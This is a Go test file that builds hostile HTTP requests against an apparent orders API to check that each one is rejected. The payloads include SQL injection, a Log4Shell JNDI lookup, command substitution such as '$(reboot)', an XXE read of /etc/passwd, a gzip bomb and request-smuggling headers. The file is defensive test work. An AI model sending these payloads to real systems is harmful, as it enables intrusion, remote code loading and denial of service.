package instance_test

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"strings"
)

// goodOrder is a good body; the product is there.
const goodOrder = `{"customer_id":"c","items":[{"product_id":"A","quantity":1,"unit_price_cents":1000}]}`

// head is a request's header, with the lines.
func head(method, path string, lines ...string) string {
	return method + " " + path + " HTTP/1.1\r\nHost: localhost\r\n" + strings.Join(append(lines, ""), "\r\n") + "\r\n"
}

// raw is a whole request with a JSON body.
func raw(method, path, body string, lines ...string) string {
	if body == "" {
		return head(method, path, lines...)
	}
	return head(method, path, append(lines, "Content-Type: application/json", fmt.Sprintf("Content-Length: %d", len(body)))...) + body
}

func post(rule, body string, status int, code string, lines ...string) hostile {
	return hostile{rule, raw("POST", "/orders", body, lines...), status, code}
}

const (
	badRequest = "BAD_REQUEST"
	invalid    = "VALIDATION_FAILED"
	notFound   = "NOT_FOUND"
	notAllowed = "METHOD_NOT_ALLOWED"
	tooLarge   = "PAYLOAD_TOO_LARGE"
	badType    = "UNSUPPORTED_MEDIA_TYPE"
)

func hostileRequests() []hostile {
	var all []hostile
	for _, more := range [][]hostile{
		tornBodies(), damagedBodies(), duplicates(), numbers(), wrongTypes(), deepBodies(), hostileTexts(), compressed(), lengths(), chunks(),
		headers(), paths(), methods(), protocols(),
	} {
		all = append(all, more...)
	}
	return all
}

// tornBodies are a good body cut at every byte.
func tornBodies() (all []hostile) {
	for n := 1; n < len(goodOrder); n++ {
		all = append(all, post(fmt.Sprintf("cut after %d bytes", n), goodOrder[:n], 400, badRequest))
	}
	return append(all,
		post("something behind it", goodOrder+"]", 400, badRequest),
		post("twice", goodOrder+goodOrder, 400, badRequest),
		post("a byte order mark", "\ufeff"+goodOrder, 400, badRequest),
		post("UTF-16", "{\x00\"\x00a\x00\"\x00:\x001\x00}\x00", 400, badRequest),
		post("a comment", `{/* */"customer_id":"c"}`, 400, badRequest),
		post("single quotes", `{'customer_id':'c'}`, 400, badRequest),
		post("a trailing comma", `{"customer_id":"c",}`, 400, badRequest),
		post("XML", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`, 400, badRequest),
	)
}

// damagedBodies are a good body with a bad byte at every third place.
func damagedBodies() (all []hostile) {
	for _, bad := range []string{"\x00", "\xff", "\xed\xa0\x80", "\xc0\xaf", "\x1f"} {
		for n := 0; n <= len(goodOrder); n += 3 {
			all = append(all, post(fmt.Sprintf("%q at byte %d", bad, n), goodOrder[:n]+bad+goodOrder[n:], 400, badRequest))
		}
	}
	for _, escape := range []string{`\ud800`, `\udc00`, `\ud800\u0041`, `\u12`, `\x41`, `\U0001F600`, `\`} {
		all = append(all, post("the escape "+escape, `{"customer_id":"`+escape+`","items":[]}`, 400, badRequest))
	}
	return all
}

func duplicates() (all []hostile) {
	for _, body := range []string{
		`{"customer_id":"c","customer_id":"d","items":[]}`,
		`{"customer_id":"c","customer_id":"c","items":[]}`,
		`{"customer_id":"c","\u0063ustomer_id":"d","items":[]}`,
		`{"customer_id":"c","items":[],"items":[]}`,
		`{"customer_id":"c","items":[{"product_id":"A","quantity":1,"quantity":9}]}`,
		`{"customer_id":"c","items":[],"contact":{"email":"a@b.c","email":"d@e.f"}}`,
		`{"customer_id":"c","Customer_id":"d","items":[]}`,
		`{"__proto__":{"admin":true},"customer_id":"c","items":[]}`,
		`{"customer_id":"c","items":[],"status":"CONFIRMED"}`,
		`{"customer_id":"c","items":[],"order_id":"ord-mine"}`,
	} {
		all = append(all, post(body, body, 400, badRequest))
	}
	return all
}

// numbers are quantities and prices that are none, or none that can be.
func numbers() (all []hostile) {
	for text, status := range map[string]int{
		"9007199254740993": 422, "9223372036854775807": 422, "9223372036854775808": 422, "-9223372036854775809": 422,
		"18446744073709551616": 422, "1e309": 422, "-1e309": 422, "1E400": 422, "1e-400": 422, "0.1": 422, "1.0": 422, "1e0": 422, "-0": 422,
		"-1": 422, "0": 422, "100000000": 422, "1" + strings.Repeat("0", 400): 422, "0." + strings.Repeat("0", 400) + "1": 422, `"1"`: 422,
		"01": 400, "00": 400, "+1": 400, ".5": 400, "1.": 400, "0x10": 400, "1e": 400, "1e+": 400, "--1": 400, "-": 400, "1_000": 400,
		"Infinity": 400, "NaN": 400, "1,5": 400, "١": 400,
	} {
		code := map[int]string{400: badRequest, 422: invalid}[status]
		short := text[:min(len(text), 24)]
		all = append(all,
			post("a quantity of "+short, `{"customer_id":"c","items":[{"product_id":"A","quantity":`+text+`}]}`, status, code),
			post("a price of "+short, `{"customer_id":"c","items":[{"product_id":"A","quantity":1,"unit_price_cents":`+text+`}]}`, status, code))
	}
	return append(all, post("a total beyond 64 bits",
		`{"customer_id":"c","items":[`+strings.Repeat(`{"product_id":"A","quantity":10000},`, 49)+`{"product_id":"A","quantity":10000}]}`, 422, invalid))
}

// wrongTypes are a good order with one member of another type.
func wrongTypes() (all []hostile) {
	const place = "@"
	for member, template := range map[string]string{
		"customer_id":      `{"customer_id":@,"items":[{"product_id":"A","quantity":1}]}`,
		"items":            `{"customer_id":"c","items":@}`,
		"a line":           `{"customer_id":"c","items":[@]}`,
		"product_id":       `{"customer_id":"c","items":[{"product_id":@,"quantity":1}]}`,
		"quantity":         `{"customer_id":"c","items":[{"product_id":"A","quantity":@}]}`,
		"unit_price_cents": `{"customer_id":"c","items":[{"product_id":"A","quantity":1,"unit_price_cents":@}]}`,
		"payment_method":   `{"customer_id":"c","items":[{"product_id":"A","quantity":1}],"payment_method":@}`,
		"currency":         `{"customer_id":"c","items":[{"product_id":"A","quantity":1}],"currency":@}`,
		"email":            `{"customer_id":"c","items":[{"product_id":"A","quantity":1}],"contact":{"email":@}}`,
		"phone":            `{"customer_id":"c","items":[{"product_id":"A","quantity":1}],"contact":{"phone":@}}`,
	} {
		for _, value := range []string{"null", "true", "[]", "{}", `""`, `"\u0000"`, `[["a"]]`} {
			all = append(all, post(member+" is "+value, strings.Replace(template, place, value, 1), 422, invalid))
		}
	}
	return all
}

func deepBodies() (all []hostile) {
	for _, n := range []int{17, 100, 10_000, 30_000} {
		all = append(all,
			post(fmt.Sprintf("%d arrays in each other", n), strings.Repeat("[", n)+strings.Repeat("]", n), 400, badRequest),
			post(fmt.Sprintf("%d arrays that never end", n), strings.Repeat("[", n), 400, badRequest))
	}
	for _, n := range []int{17, 1000, 10_000} {
		all = append(all, post(fmt.Sprintf("%d objects in each other", n), strings.Repeat(`{"a":`, n)+"1"+strings.Repeat("}", n), 400, badRequest))
	}
	return append(all,
		post("20,000 values", `{"items":[`+strings.Repeat("1,", 20_000)+"1]}", 400, badRequest),
		post("5,000 members", `{"a0":0`+strings.Repeat(`,"a":0`, 5000)+"}", 400, badRequest),
		post("a name of 60,000 letters", `{"`+strings.Repeat("n", 60_000)+`":1}`, 400, badRequest),
		post("a text of 60,000 letters", `{"customer_id":"`+strings.Repeat("n", 60_000)+`","items":[{"product_id":"A","quantity":1}]}`, 422, invalid),
		post("60,000 escapes", `{"customer_id":"`+strings.Repeat(`\n`, 30_000)+`","items":[{"product_id":"A","quantity":1}]}`, 422, invalid),
		post("100,000 spaces", strings.Repeat(" ", 100_000)+goodOrder, 413, tooLarge),
		post("ten megabytes", strings.Repeat("[", 10<<20), 413, tooLarge),
	)
}

// hostileTexts are what other programs would take for a command.
func hostileTexts() (all []hostile) {
	for _, text := range []string{
		`'; DROP TABLE orders; --`, `1 OR 1=1`, `{{7*7}}`, `${jndi:ldap://x/a}`, `%s%s%n`, `<script>alert(1)</script>`, `../../etc/passwd`,
		`$(reboot)`, "`id`", `a\u0000b`, `a\r\nX-Injected: 1`, `customer#c`, `holder#c`, `\u202eabc`, `=cmd|' /C calc'!A0`, `\ud83d\ude00`,
	} {
		all = append(all,
			post("the customer "+text, `{"customer_id":"`+text+`","items":[{"product_id":"A","quantity":1}]}`, 422, invalid),
			post("the product "+text, `{"customer_id":"c","items":[{"product_id":"`+text+`","quantity":1}]}`, 422, invalid))
	}
	for _, email := range []string{
		`a@b`, `a@b.c\r\nBcc: d@e.f`, `a@b.c,d@e.f`, `<a@b.c>`, `a b@c.d`, `@b.c`, `a@.c`, `a..b@c.d`, `a@b.c ` + strings.Repeat("x", 300),
	} {
		all = append(all, post("the address "+email[:min(len(email), 24)],
			`{"customer_id":"c","items":[{"product_id":"A","quantity":1}],"contact":{"email":"`+email+`"}}`, 422, invalid))
	}
	return all
}

// compressed are bodies that would be larger than they are.
func compressed() (all []hostile) {
	var bomb bytes.Buffer
	z := gzip.NewWriter(&bomb)
	for range 48 { // 48 MiB in under 64 KiB
		_, _ = z.Write(make([]byte, 1<<20))
	}
	_ = z.Close()
	for _, encoding := range []string{"gzip", "deflate", "br", "zstd", "gzip, gzip", "x-gzip", "GZIP"} {
		all = append(all, post("a bomb in "+encoding, bomb.String(), 415, badType, "Content-Encoding: "+encoding))
	}
	return append(all,
		post("a bomb that says nothing", bomb.String(), 400, badRequest),
		hostile{"a bomb as a transfer coding", head("POST", "/orders", "Content-Type: application/json", "Transfer-Encoding: gzip, chunked") + "0\r\n\r\n", 501, ""},
		hostile{"a form", head("POST", "/orders", "Content-Type: application/x-www-form-urlencoded", "Content-Length: 3") + "a=b", 415, badType},
		hostile{"parts without a boundary", head("POST", "/orders", "Content-Type: multipart/form-data", "Content-Length: 3") + "a=b", 415, badType},
		hostile{"UTF-7", head("POST", "/orders", "Content-Type: application/json; charset=utf-7", "Content-Length: 2") + "{}", 415, badType},
		hostile{"a type of 8,000 letters", head("POST", "/orders", "Content-Type: "+strings.Repeat("a", 8000), "Content-Length: 2") + "{}", 415, badType},
	)
}

func lengths() (all []hostile) {
	with := func(rule string, status int, code string, lines ...string) {
		all = append(all, hostile{rule, head("POST", "/orders", append(lines, "Content-Type: application/json")...) + "{}", status, code})
	}
	for _, length := range []string{"-1", "+2", "1e3", "0x2", "2, 3", "99999999999999999999", "two", "2 2", "2;"} {
		with("Content-Length: "+length, 400, "", "Content-Length: "+length)
	}
	with("two lengths that differ", 400, "", "Content-Length: 2", "Content-Length: 3")
	with("a length of nine exabytes", 413, tooLarge, "Content-Length: 9223372036854775807")
	with("a length of a gigabyte that is expected", 413, tooLarge, "Content-Length: 1073741824", "Expect: 100-continue")
	with("an expectation that nobody knows", 417, "", "Content-Length: 2", "Expect: 200-maybe")
	with("no length", 400, badRequest)
	return all
}

func chunks() (all []hostile) {
	with := func(rule, body string, status int, code string, lines ...string) {
		lines = append(lines, "Content-Type: application/json")
		all = append(all, hostile{rule, head("POST", "/orders", lines...) + body, status, code})
	}
	const chunked = "Transfer-Encoding: chunked"
	for rule, body := range map[string]string{
		"a chunk's size that is no number":    "zz\r\n{}\r\n0\r\n\r\n",
		"a negative chunk":                    "-2\r\n{}\r\n0\r\n\r\n",
		"a chunk of 2^68 bytes":               "FFFFFFFFFFFFFFFFF\r\n{}\r\n0\r\n\r\n",
		"a chunk that is longer than it says": "2\r\n{}}}}\r\n0\r\n\r\n",
		"a chunk's size of 5,000 digits":      strings.Repeat("0", 5000) + "2\r\n{}\r\n0\r\n\r\n",
		"a plain body":                        goodOrder + "\r\n\r\n",
		"an empty body":                       "0\r\n\r\n",
	} {
		with(rule, body, 400, badRequest, chunked)
	}
	with("chunks of more than 64 KiB", strings.Repeat("1000\r\n"+strings.Repeat(" ", 4096)+"\r\n", 32)+"0\r\n\r\n", 413, tooLarge, chunked)
	with("chunks beside a length, and a body that is none", goodOrder+"\r\n", 400, badRequest, chunked, "Content-Length: 5")
	with("a coding that nobody knows", "{}", 501, "", "Transfer-Encoding: xchunked")
	with("a coding with a vertical tab", "{}", 400, "", "Transfer-Encoding: \x0bchunked")
	with("two codings", "0\r\n\r\n", 501, "", chunked, chunked)
	with("a space before the colon", "0\r\n\r\n", 400, "", "Transfer-Encoding : chunked")
	return all
}
